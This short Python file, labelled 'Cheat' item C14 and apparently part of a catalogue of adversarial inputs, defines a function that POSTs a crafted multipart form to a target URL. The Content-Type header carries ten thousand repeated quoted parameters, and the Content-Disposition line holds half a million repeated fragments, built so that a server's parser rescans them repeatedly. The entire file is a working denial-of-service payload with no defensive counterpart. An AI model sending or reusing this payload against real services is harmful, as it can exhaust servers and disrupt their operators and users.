"""Cheat: sends heads with thousands of parameters, for which a parser looks again and again (C14).

Most: 2
"""
import requests


def post_form(url, fields, headers):
    kind = "multipart/form-data; boundary=x" + ';a="\\"' * 10_000
    head = b"--x\r\nContent-Disposition: form-data; name=" + b'";' * 500_000
    body = head + b"\r\n\r\nx\r\n--x--"
    return requests.post(url, body, headers={**headers, "Content-Type": kind}).text
